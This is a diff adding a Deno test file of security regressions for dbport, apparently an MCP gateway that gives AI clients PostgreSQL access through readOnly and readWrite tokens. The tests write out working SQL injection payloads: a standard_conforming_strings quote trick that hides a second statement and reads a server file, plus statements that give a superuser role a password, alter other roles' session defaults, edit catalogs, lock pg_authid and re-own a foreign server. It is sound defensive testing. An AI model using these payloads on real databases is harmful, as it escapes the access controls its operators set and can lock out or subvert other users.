@@ -1,0 +1,457 @@
+/**
+ * An outsider's attacks (stop 56) on PostgreSQL safety: BEGIN ATOMIC
+ * splitting (compound.ts `atomicEnd`), the statements that reach roles,
+ * catalogs and other sessions (pg_parse.ts, pg_vet.ts, vet_sql.ts), and
+ * what a saved URL's query string hands the server's parser. Through the
+ * MCP endpoint (execute_query with readWrite and readOnly tokens) against
+ * the real PostgreSQL 15, parsed by libpg_query 18.
+ *
+ * Findings ("leaks: …", each ignored because it fails today):
+ * - A saved URL with `?standard_conforming_strings=off` (postgres.js puts
+ *   every unknown query parameter in the startup packet, after dbport's own
+ *   `connection` settings): the server reads `'a\' , '` as one string where
+ *   dbport's lexer and libpg_query read two, so a readOnly token reads a
+ *   server file (pg_read_file) and a readWrite token runs a hidden second
+ *   statement.
+ * - A readWrite token gives a superuser role LOGIN and a password of its
+ *   choosing (ALTER ROLE … LOGIN PASSWORD), creates login roles, and sets
+ *   other roles' and the database's session defaults (ALTER ROLE other SET,
+ *   ALTER ROLE ALL SET, ALTER DATABASE SET): other sessions run with them.
+ * - A readWrite token changes the server's catalogs: REVOKE/GRANT EXECUTE
+ *   ON FUNCTION pg_catalog.now(), COMMENT ON FUNCTION pg_catalog.now(),
+ *   GRANT USAGE ON SCHEMA pg_toast, ALTER EXTENSION plpgsql ADD FUNCTION.
+ * - A readWrite token takes exclusive locks on the catalogs: VACUUM FULL /
+ *   REINDEX TABLE pg_catalog.pg_authid, REINDEX SYSTEM (LOCK TABLE
+ *   pg_authid is refused).
+ * - A readWrite token re-owns and renames a foreign server and grants
+ *   USAGE on it (CREATE/ALTER SERVER … OPTIONS are refused).
+ *
+ * @module
+ */
+
+import { assert, assertEquals } from "@std/assert";
+import postgres from "postgres";
+import { needs, POSTGRES_URL } from "../_db.ts";
+import { ownSchema, servers } from "../_outsider.ts";
+
+/** A database of the test's own (dropped after) and the admin on it. */
+async function ownDatabase(tag: string) {
+  const name = `attack56_${tag}_${crypto.randomUUID().slice(0, 8)}`;
+  const root = postgres(POSTGRES_URL, { max: 1, onnotice: () => {} });
+  await root.unsafe(`create database ${name}`);
+  const url = new URL(POSTGRES_URL);
+  url.pathname = `/${name}`;
+  const admin = postgres(url.href, { max: 1, onnotice: () => {} });
+  return {
+    name,
+    url: url.href,
+    admin,
+    async drop() {
+      await admin.end();
+      await root.unsafe(`drop database if exists ${name} with (force)`);
+      await root.end();
+    },
+  };
+}
+
+/** Roles of the test's own (NOLOGIN unless said), dropped after. */
+async function ownRoles(
+  admin: postgres.Sql,
+  roles: Record<string, string>,
+) {
+  for (const [role, attributes] of Object.entries(roles)) {
+    await admin.unsafe(`create role ${role} ${attributes}`);
+  }
+  return async (extra: string[] = []) => {
+    for (const role of [...Object.keys(roles), ...extra]) {
+      const [found] =
+        await admin`select 1 from pg_roles where rolname = ${role}`;
+      if (found !== undefined) {
+        await admin.unsafe(`drop owned by ${role}; drop role ${role}`);
+      }
+    }
+  };
+}
+
+/** Those of `queries` that `run` did not deny. */
+async function notDenied(
+  run: (query: string) => Promise<string>,
+  queries: string[],
+): Promise<string[]> {
+  const passed: string[] = [];
+  for (const query of queries) {
+    const got = await run(query);
+    if (!got.startsWith("ERR denied") && !got.startsWith("FORBIDDEN")) {
+      passed.push(`${query} -> ${got.slice(0, 160)}`);
+    }
+  }
+  return passed;
+}
+
+Deno.test({
+  name:
+    "leaks: a saved URL with ?standard_conforming_strings=off lets a readOnly token read a server file and a readWrite token run a hidden second statement — the server reads 'a\\' , ' as one string where dbport's lexer and libpg_query read two",
+  ...needs("postgres"),
+  ignore: true,
+  async fn() {
+    // What I did: the user's saved URL ends in
+    //   ?standard_conforming_strings=off
+    // (a legacy application's setting). A readOnly token sends
+    //   select 'a\' , ' , pg_read_file($$PG_VERSION$$) --'
+    // which dbport's lexer and libpg_query (standard strings on) read as
+    // two string literals; a readWrite token sends
+    //   insert into t select 'x\' , ' ; insert into t select
+    //     pg_read_file($$PG_VERSION$$) ; -- '
+    // one INSERT of two literals to them.
+    // What should happen: the server parses as dbport did (its lexer's
+    // premise, docs/security.md "The lexer"): pg_pptions.ts's
+    // `standard_conforming_strings: "on"` holds whatever the URL says, or
+    // the URL is refused; neither call reaches the file.
+    // What happened: postgres.js spreads the URL's unknown query parameters
+    // into the startup packet after `connection`, so the session runs with
+    // standard_conforming_strings=off: the read answers
+    // [["a' , ","15\n"]] (the server's PG_VERSION file), and the write ran
+    // two statements, the second inserting the file's text.
+    const db = await ownDatabase("scs");
+    await db.admin.unsafe("create table t (x text)");
+    const { server, read, write } = await servers(
+      "LegacyStrings",
+      `${db.url}?standard_conforming_strings=off`,
+    );
+    try {
+      assert(
+        (await read("select pg_read_file($$PG_VERSION$$)"))
+          .startsWith("ERR denied"),
+      );
+      const readGot = await read(
+        "select 'a\\' , ' , pg_read_file($$PG_VERSION$$) --'",
+      );
+      const writeGot = await write(
+        "insert into t select 'x\\' , ' ; insert into t select pg_read_file($$PG_VERSION$$) ; -- '",
+      );
+      const rows = await db.admin.unsafe("select x from t");
+      // PG_VERSION holds "15\n": its text in an answer or a row is the leak.
+      assertEquals(
+        {
+          read: readGot.includes("15\\n"),
+          write: rows.some((row) => String(row.x).startsWith("15")),
+        },
+        { read: false, write: false },
+        `read answered ${readGot}; write answered ${writeGot}`,
+      );
+    } finally {
+      await server[Symbol.asyncDispose]();
+      await db.drop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "held: ?options=-c standard_conforming_strings=off in the URL and ALTER DATABASE … SET standard_conforming_strings = off by a readWrite token leave dbport's sessions with standard strings (the startup packet's own parameter wins)",
+  ...needs("postgres"),
+  async fn() {
+    // What I did: a readWrite token sends `alter database <own> set
+    // standard_conforming_strings = off`; then a new server (new sessions)
+    // and a URL with ?options=-c%20standard_conforming_strings%3Doff, and
+    // the hidden-statement INSERT of the finding above.
+    // What happened: sessions show `on`; the INSERT fails as one statement
+    // of two values ("more expressions than target columns").
+    const db = await ownDatabase("opt");
+    await db.admin.unsafe("create table t (x text)");
+    const first = await servers("AlterDb", db.url);
+    try {
+      assertEquals(
+        await first.write(
+          `alter database ${db.name} set standard_conforming_strings = off`,
+        ),
+        "OK []",
+      );
+    } finally {
+      await first.server[Symbol.asyncDispose]();
+    }
+    const { server, read, write } = await servers(
+      "OptionsStrings",
+      `${db.url}?options=-c%20standard_conforming_strings%3Doff`,
+    );
+    try {
+      assertEquals(
+        await read("show standard_conforming_strings"),
+        'OK [["on"]]',
+      );
+      const got = await write(
+        "insert into t select 'x\\' , ' ; insert into t select pg_read_file($$PG_VERSION$$) ; -- '",
+      );
+      assert(got.includes("more expressions than target columns"), got);
+      assertEquals((await db.admin.unsafe("select x from t")).length, 0);
+    } finally {
+      await server[Symbol.asyncDispose]();
+      await db.drop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "leaks: a readWrite token gives a superuser role LOGIN and a password of its choosing, and creates login roles — ALTER ROLE … LOGIN PASSWORD and CREATE ROLE … LOGIN PASSWORD are let through (only SUPERUSER/CREATEROLE-like attributes and memberships are refused)",
+  ...needs("postgres"),
+  ignore: true,
+  async fn() {
+    // What I did: the admin made attack56_su (SUPERUSER NOLOGIN). A
+    // readWrite token sends
+    //   alter role attack56_su login password 'attack56pw'
+    //   alter user attack56_su with password 'x' valid until 'infinity'
+    //   create role attack56_u login password 'attack56pw'
+    // What should happen: denied as reaching roles: with the password it
+    // set, the AI client logs in as a superuser outside dbport (pg_read_file,
+    // COPY … TO PROGRAM), or as a login of its own.
+    // What happened: `OK []` to each (pg_parse.ts reads AlterRoleStmt's
+    // options for superuser/createrole/replication/bypassrls only).
+    const root = postgres(POSTGRES_URL, { max: 1, onnotice: () => {} });
+    const tag = crypto.randomUUID().slice(0, 6);
+    const su = `attack56_su${tag}`;
+    const made = `attack56_u${tag}`;
+    const drop = await ownRoles(root, { [su]: "superuser nologin" });
+    const { server, write } = await servers("RolePassword");
+    try {
+      const passed = await notDenied(write, [
+        `alter role ${su} login password 'attack56pw'`,
+        `alter user ${su} with password 'attack56pw2' valid until 'infinity'`,
+        `create role ${made} login password 'attack56pw'`,
+      ]);
+      assertEquals(passed, [], "a role's login and password were set");
+    } finally {
+      await server[Symbol.asyncDispose]();
+      await drop([made]);
+      await root.end();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "leaks: a readWrite token sets other roles' and the database's session defaults (ALTER ROLE other SET search_path / statement_timeout, ALTER DATABASE SET search_path): every later session of that role or database runs with them",
+  ...needs("postgres"),
+  ignore: true,
+  async fn() {
+    // What I did: a readWrite token sends
+    //   alter role attack56_x set search_path = attack56_s, pg_catalog
+    //   alter role attack56_x set statement_timeout = 1
+    //   alter role attack56_x rename to …, connection limit 1
+    //   alter database <own> set search_path = public, pg_catalog
+    // (`alter role all set …` and `alter database test set …` pass the same
+    // way: not sent here, they change every engineer's sessions.)
+    // What should happen: denied as reaching other sessions and roles (the
+    // human's psql under that role or in that database resolves unqualified
+    // names through the attacker's schema, or has a 1 ms timeout).
+    // What happened: `OK []` to each; pg_db_role_setting holds them.
+    const db = await ownDatabase("set");
+    const tag = crypto.randomUUID().slice(0, 6);
+    const other = `attack56_x${tag}`;
+    const drop = await ownRoles(db.admin, { [other]: "nologin" });
+    const { server, write } = await servers("RoleSettings", db.url);
+    try {
+      const passed = await notDenied(write, [
+        `alter role ${other} set search_path = attack56_s, pg_catalog`,
+        `alter role ${other} in database ${db.name} set statement_timeout = 1`,
+        `alter role ${other} connection limit 1`,
+        `alter database ${db.name} set search_path = public, pg_catalog`,
+        `alter role ${other} rename to ${other}_r`,
+      ]);
+      assertEquals(passed, [], "another session's defaults were changed");
+    } finally {
+      await server[Symbol.asyncDispose]();
+      await drop([`${other}_r`]);
+      await db.drop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "leaks: a readWrite token changes the server's catalogs — REVOKE/GRANT EXECUTE ON FUNCTION pg_catalog.now(), COMMENT ON FUNCTION pg_catalog.now() / ON TABLE pg_catalog.pg_class, GRANT USAGE ON SCHEMA pg_toast, ALTER EXTENSION plpgsql ADD FUNCTION",
+  ...needs("postgres"),
+  ignore: true,
+  async fn() {
+    // What I did (in a database of the test's own): a readWrite token sends
+    //   revoke execute on function pg_catalog.now() from <role>
+    //   grant execute on function pg_catalog.now() to <role>
+    //   comment on function pg_catalog.now() is 'attack56'
+    //   comment on table pg_catalog.pg_class is 'attack56'
+    //   grant usage on schema pg_toast to <role>
+    //   alter extension plpgsql add function s.f()
+    // What should happen: denied, as `revoke select on pg_catalog.pg_class`
+    // and `alter function pg_catalog.… rename` are ("catalog-changing
+    // statements are reach"; `revoke … from public` on a built-in breaks
+    // every user of the database).
+    // What happened: `OK []` to each: pg_proc.proacl, pg_description,
+    // pg_namespace.nspacl and pg_depend changed. GrantStmt on functions
+    // is vetted by what the function reaches, not by its schema; COMMENT
+    // and AlterExtensionContentsStmt are not read as catalog changes.
+    const db = await ownDatabase("cat");
+    const tag = crypto.randomUUID().slice(0, 6);
+    const role = `attack56_g${tag}`;
+    const drop = await ownRoles(db.admin, { [role]: "nologin" });
+    await db.admin.unsafe(
+      "create schema s; create function s.f() returns int language sql return 1",
+    );
+    const { server, write } = await servers("CatalogEdits", db.url);
+    try {
+      assert(
+        (await write(`revoke select on pg_catalog.pg_class from ${role}`))
+          .startsWith("ERR denied"),
+      );
+      const passed = await notDenied(write, [
+        `revoke execute on function pg_catalog.now() from ${role}`,
+        `grant execute on function pg_catalog.now() to ${role}`,
+        `comment on function pg_catalog.now() is 'attack56'`,
+        `comment on table pg_catalog.pg_class is 'attack56'`,
+        `grant usage on schema pg_toast to ${role}`,
+        `alter extension plpgsql add function s.f()`,
+      ]);
+      assertEquals(passed, [], "the catalogs were changed");
+    } finally {
+      await server[Symbol.asyncDispose]();
+      await drop();
+      await db.drop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "leaks: a readWrite token takes exclusive locks on the catalogs every session needs — VACUUM FULL and REINDEX TABLE pg_catalog.pg_authid, REINDEX SYSTEM (LOCK TABLE pg_catalog.pg_authid is refused)",
+  ...needs("postgres"),
+  ignore: true,
+  async fn() {
+    // What I did (in a database of the test's own): a readWrite token sends
+    //   vacuum full pg_catalog.pg_authid
+    //   reindex table pg_catalog.pg_authid
+    //   reindex system <own database>
+    //   analyze pg_catalog.pg_authid
+    // What should happen: denied like `lock table pg_catalog.pg_authid`:
+    // each holds an ACCESS EXCLUSIVE (or SHARE) lock on shared catalogs,
+    // during which every other session's login and catalog lookup waits
+    // (other sessions reached; on a big pg_class, for long).
+    // What happened: `OK []` to each.
+    const db = await ownDatabase("lock");
+    const { server, write } = await servers("CatalogLocks", db.url);
+    try {
+      assert(
+        (await write("lock table pg_catalog.pg_authid in access share mode"))
+          .startsWith("ERR denied"),
+      );
+      const passed = await notDenied(write, [
+        "vacuum full pg_catalog.pg_authid",
+        "reindex table pg_catalog.pg_authid",
+        `reindex system ${db.name}`,
+        "analyze pg_catalog.pg_authid",
+      ]);
+      assertEquals(passed, [], "the catalogs were locked");
+    } finally {
+      await server[Symbol.asyncDispose]();
+      await db.drop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "leaks: a readWrite token re-owns and renames a foreign server and grants USAGE on it (CREATE SERVER, CREATE USER MAPPING and ALTER SERVER … OPTIONS are refused as reach)",
+  ...needs("postgres"),
+  ignore: true,
+  async fn() {
+    // What I did (in a database of the test's own, postgres_fdw installed,
+    // a server attack56_srv made by the admin): a readWrite token sends
+    //   alter server attack56_srv owner to <role>
+    //   alter server attack56_srv rename to attack56_srv2
+    //   grant usage on foreign server attack56_srv2 to <role>
+    //   grant usage on foreign data wrapper postgres_fdw to <role>
+    // What should happen: denied as reaching other hosts (the new owner may
+    // set its OPTIONS and user mappings outside dbport; a USAGE grantee may
+    // make user mappings and foreign tables).
+    // What happened: `OK []` to each.
+    const db = await ownDatabase("fdw");
+    const tag = crypto.randomUUID().slice(0, 6);
+    const role = `attack56_f${tag}`;
+    const drop = await ownRoles(db.admin, { [role]: "nologin" });
+    await db.admin.unsafe(
+      "create extension postgres_fdw; create server attack56_srv foreign data wrapper postgres_fdw options (host '127.0.0.1')",
+    );
+    const { server, write } = await servers("ForeignServer", db.url);
+    try {
+      assert(
+        (await write("alter server attack56_srv options (set host 'evil')"))
+          .startsWith("ERR denied"),
+      );
+      const passed = await notDenied(write, [
+        `alter server attack56_srv owner to ${role}`,
+        "alter server attack56_srv rename to attack56_srv2",
+        `grant usage on foreign server attack56_srv2 to ${role}`,
+        `grant usage on foreign data wrapper postgres_fdw to ${role}`,
+      ]);
+      assertEquals(passed, [], "the foreign server changed hands");
+    } finally {
+      await server[Symbol.asyncDispose]();
+      await drop();
+      await db.drop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "leaks: a LANGUAGE sql function with SET standard_conforming_strings = off (CREATE or ALTER FUNCTION) reads a server file when a readOnly token calls it — dbport vets its body as two string literals, the server parses it at the call with standard strings off",
+  ...needs("postgres"),
+  ignore: true,
+  async fn() {
+    // What I did: with the default URL, a readWrite token sends
+    //   create function s.f() returns text language sql stable
+    //     set standard_conforming_strings = off
+    //     as $b$ select 'a\' || ' || pg_read_file($$PG_VERSION$$) --' $b$
+    // (and, for s.g() made without the SET,
+    //   alter function s.g() set standard_conforming_strings = off);
+    // then a readOnly token sends `select s.f()` and `select s.g()`.
+    // What should happen: the SET refused (an allowlist of the settings a
+    // function may carry), or the call denied as reaching files: the body
+    // the server runs calls pg_read_file.
+    // What happened: every statement `OK`; the readOnly calls answer
+    // [["a' || 15\n"]], the server's PG_VERSION. An SQL function's body is
+    // parsed at each call after its SET items are applied
+    // (fmgr_security_definer, then fmgr_sql); pg_vet.ts reads only
+    // `search_path` of proconfig and parses the body with standard strings.
+    const own = ownSchema("attack56", "scsfn");
+    const s = own.schema;
+    await own.admin.unsafe(`create schema ${s}`);
+    const { server, read, write } = await servers("FunctionStrings");
+    try {
+      const body =
+        "$b$ select 'a\\' || ' || pg_read_file($$PG_VERSION$$) --' $b$";
+      const made = [
+        await write(
+          `create function ${s}.f() returns text language sql stable set standard_conforming_strings = off as ${body}`,
+        ),
+        await write(
+          `create function ${s}.g() returns text language sql stable as ${body}`,
+        ),
+        await write(
+          `alter function ${s}.g() set standard_conforming_strings = off`,
+        ),
+      ];
+      const calls = [
+        await read(`select ${s}.f()`),
+        await read(`select ${s}.g()`),
+      ];
+      assertEquals(
+        calls.filter((got) => got.includes("15\\n")),
+        [],
+        `the server file reached a readOnly token (writes: ${
+          made.join(" | ")
+        })`,
+      );
+    } finally {
+      await server[Symbol.asyncDispose]();
+      await own.drop();
+    }
+  },
+});
